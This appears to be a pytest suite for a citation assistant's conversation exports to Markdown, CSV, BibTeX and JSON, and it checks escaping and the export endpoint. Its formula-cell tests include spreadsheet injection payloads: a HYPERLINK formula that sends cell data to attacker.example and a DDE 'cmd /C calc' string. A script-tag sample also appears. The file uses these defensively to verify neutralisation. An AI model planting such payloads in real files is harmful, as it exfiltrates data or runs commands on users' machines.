"""Exports of a conversation's cited passages: Markdown, CSV, BibTeX (real answers)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from assistant.conversations import Conversation, ConversationStore
from assistant.serve.exports import (
    CSV_COLUMNS,
    bibtex_entry,
    bibtex_escape,
    citation_text,
    md_block,
    to_bibtex,
    to_csv,
    to_markdown,
    viewer_path,
)
from assistant.records import Filters

QUESTIONS = [
    ("Which laws guarantee migrants access to health care?", None),
    ("¿Qué derechos tienen los migrantes a la atención médica?", Filters(kind=["law"])),
]


@pytest.fixture(scope="module")
def conversation(assistant, tmp_path_factory) -> Conversation:
    """A stored conversation with a profile answer and a law answer (articles, pages)."""
    store = ConversationStore(tmp_path_factory.mktemp("exports") / "c.sqlite3")
    created = store.create()
    for question, filters in QUESTIONS:
        store.add_turn(created.id, assistant.ask(question, filters=filters), filters)
    loaded = store.get(created.id)
    citations = [c for t in loaded.turns for c in t.answer.citations]
    assert {c.document.kind for c in citations} >= {"profile", "law"}
    assert any(c.article and c.page for c in citations)
    return loaded


def citations_of(conversation: Conversation):
    return [(t.n, c) for t in conversation.turns for c in t.answer.citations]


def balanced(text: str) -> bool:
    """Unescaped braces nest properly (BibTeX's only hard syntax rule for values)."""
    depth = 0
    for i, ch in enumerate(text):
        escaped = i > 0 and text[i - 1] == "\\"
        if ch == "{" and not escaped:
            depth += 1
        elif ch == "}" and not escaped:
            depth -= 1
            if depth < 0:
                return False
    return depth == 0


def test_markdown_quotes_verbatim_with_locators(conversation):
    text = to_markdown(conversation, base_url="http://example.org")
    assert text.startswith(f"# {conversation.title}\n")
    for turn in conversation.turns:
        assert f"## Question {turn.n}: {turn.question}" in text
    for _, c in citations_of(conversation):
        for line in c.quote.split("\n"):
            assert (f"> {line}" if line else ">") in text
        assert f"- Section: {c.section}" in text
        if c.article:
            assert f"- Article: {c.article}" in text
        if c.page:
            assert f"- Page: {c.page}" in text
        assert f"- Characters: {c.start}–{c.end}" in text
        assert f"http://example.org{viewer_path(c)}" in text
        for ks in c.key_sources:
            assert f"  - {ks.label}" in text


def test_markdown_cannot_carry_html():
    from assistant.serve.exports import md_block, md_inline

    assert md_inline("a <script>alert(1)</script>") == "a \\<script>alert(1)\\</script>"
    assert md_block("one\n\ntwo") == "> one\n>\n> two"


def test_csv_parses_and_keeps_quotes_verbatim(conversation):
    text = to_csv(conversation)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0].keys()) == CSV_COLUMNS
    expected = citations_of(conversation)
    assert len(rows) == len(expected)
    for row, (turn, c) in zip(rows, expected):
        assert row["quote"] == c.quote  # newlines, commas and quotes survive RFC 4180 quoting
        assert row["conversation_id"] == conversation.id
        assert int(row["turn"]) == turn and int(row["citation"]) == c.n
        assert row["document_id"] == c.document.id and row["section"] == c.section
        assert row["article"] == (c.article or "")
        assert row["page"] == (str(c.page) if c.page else "")
        assert (int(row["start"]), int(row["end"])) == (c.start, c.end)
        assert row["source_viewer"] == viewer_path(c)
        assert row["key_sources"] == " ; ".join(ks.label for ks in c.key_sources)


def test_bibtex_document_entries_with_quotes_and_locators(conversation, assistant):
    metas = {doc_id: doc.meta for doc_id, doc in assistant.documents.items()}
    text = to_bibtex(conversation, metas)
    assert balanced(text)
    entries = re.findall(r"^@(\w+)\{([^,]+),$", text, flags=re.MULTILINE)
    documents = {c.document.id: c.document.kind for _, c in citations_of(conversation)}
    assert sorted(key for _, key in entries) == sorted(documents)  # one entry per document
    for entry_type, key in entries:
        assert entry_type == ("legislation" if documents[key] in ("law", "constitution") else "misc")
    for doc_id in documents:
        meta = metas[doc_id]
        if meta.source_url and " " not in meta.source_url:
            assert f"url = {{{meta.source_url}}}" in text
        if meta.kind == "profile":
            assert "year = {2022}" in text
    first_seen = set()
    for turn, c in citations_of(conversation):
        assert bibtex_escape(c.quote) in text
        if (c.document.id, c.start, c.end) not in first_seen:  # a quote cited again is listed once
            assert f"[{turn}.{c.n}]" in text
        first_seen.add((c.document.id, c.start, c.end))
        if c.article:
            assert bibtex_escape(c.article) in text
        if c.page:
            assert f"p. {c.page}" in text


def test_bibtex_escapes_special_characters(conversation):
    assert bibtex_escape("50% of {x} & $y #1 a_b ^ ~ \\") == (
        r"50\% of \{x\} \& \$y \#1 a\_b \textasciicircum{} \textasciitilde{} \textbackslash{}"
    )
    _, citation = citations_of(conversation)[0]
    nasty = citation.model_copy(update={
        "quote": "Costs rose 20% {sic} & fell_back; see #4 ~ ^ \\end{document} }}}",
        "document": citation.document.model_copy(update={"title": "A {broken} title & more"}),
    })
    entry = bibtex_entry([(1, nasty)])
    assert balanced(entry)
    assert r"20\% \{sic\} \& fell\_back; see \#4 \textasciitilde{} \textasciicircum{}" in entry
    assert r"\textbackslash{}end\{document\} \}\}\}" in entry
    assert r"title = {A \{broken\} title \& more}" in entry
    kind = "@legislation{" if citation.document.kind in ("law", "constitution") else "@misc{"
    assert entry.count("\n}\n") == 1 and entry.startswith(kind)


def test_citation_text_names_document_and_locator(conversation):
    for _, c in citations_of(conversation):
        text = citation_text(c)
        assert " ".join(c.quote.split()) in text and c.document.title in text
        if c.article:
            assert c.article in text
        if c.page:
            assert f"p. {c.page}" in text
        assert f"characters {c.start}–{c.end}" in text


def test_export_endpoint_content_types_and_disposition(client):
    conversation_id = client.post("/api/conversations").json()["id"]
    asked = client.post(f"/api/conversations/{conversation_id}/ask",
                        json={"question": QUESTIONS[0][0]})
    quote = asked.json()["citations"][0]["quote"]
    for fmt, media in (("md", "text/markdown"), ("csv", "text/csv"), ("bib", "application/x-bibtex")):
        response = client.get(f"/api/conversations/{conversation_id}/export", params={"format": fmt})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == f"{media}; charset=utf-8"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="mgi-conversation-{conversation_id}.{fmt}"'
        )
        body = response.text
        expected = {"bib": bibtex_escape(quote), "md": md_block(quote)}.get(fmt, quote)
        assert expected in body  # the quote verbatim (Markdown: as a blockquote, line by line)
        assert "http://127.0.0.1:8000/documents/" in body  # public_url default, never the Host
        assert "testserver" not in body
    bad = client.get(f"/api/conversations/{conversation_id}/export", params={"format": "xml"})
    assert bad.status_code == 422 and "format" in bad.json()["error"]
    assert client.get(f"/api/conversations/{'f' * 32}/export").status_code == 404


def test_empty_conversation_exports_are_valid(tmp_path):
    store = ConversationStore(tmp_path / "c.sqlite3")
    empty = store.get(store.create().id)
    assert list(csv.reader(io.StringIO(to_csv(empty)))) == [CSV_COLUMNS]
    assert balanced(to_bibtex(empty)) and "@" not in to_bibtex(empty).split("\n\n", 1)[1]
    assert to_markdown(empty).startswith("# Conversation\n")


# ----------------------------------------------------------------------------- formula cells (fast)

FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1"]


def formula_conversation() -> Conversation:
    """A stored-looking conversation whose question and quotes start like formulas."""
    from assistant.conversations import StoredTurn
    from assistant.records import Answer, Citation, DocumentRef

    ref = DocumentRef(id="ley", title="=Ley", file="ley.md", kind="law", language="es")
    citations = [Citation(n=i, quote=q, chunk_id="ley:0", start=i, end=i + len(q), score=1.0,
                          section="@Capítulo", article=None, page=None, document=ref)
                 for i, q in enumerate(FORMULAS, 1)]
    answer = Answer(question="=1+1", answer="…", refused=False, citations=citations)
    turn = StoredTurn(n=1, question="=1+1", answer=answer, created="2026-01-01T00:00:00+00:00")
    return Conversation(id="0" * 32, title="=1+1", created=turn.created, updated=turn.created, turns=[turn])


def test_csv_cells_cannot_start_a_formula():
    """The issue: a question or quote starting with = + - @ or a tab became a live formula."""
    rows = list(csv.DictReader(io.StringIO(to_csv(formula_conversation(), "https://mgi.example.org"))))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS):
        assert row["quote"] == "'" + formula  # neutralised (OWASP): shown as text
        assert row["question"] == "'=1+1" and row["document_title"] == "'=Ley" and row["section"] == "'@Capítulo"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["start"] == "1"  # numbers stay numbers


def test_json_and_markdown_keep_the_quote_verbatim():
    import json

    from assistant.serve.exports import to_json

    conversation = formula_conversation()
    data = json.loads(to_json(conversation, "https://mgi.example.org"))
    assert [p["quote"] for p in data["passages"]] == FORMULAS
    assert data["passages"][0]["source_viewer"].startswith("https://mgi.example.org/documents/ley?")
    markdown = to_markdown(conversation)
    assert '=HYPERLINK("http://attacker.example/?d="&A1,"click")' in markdown
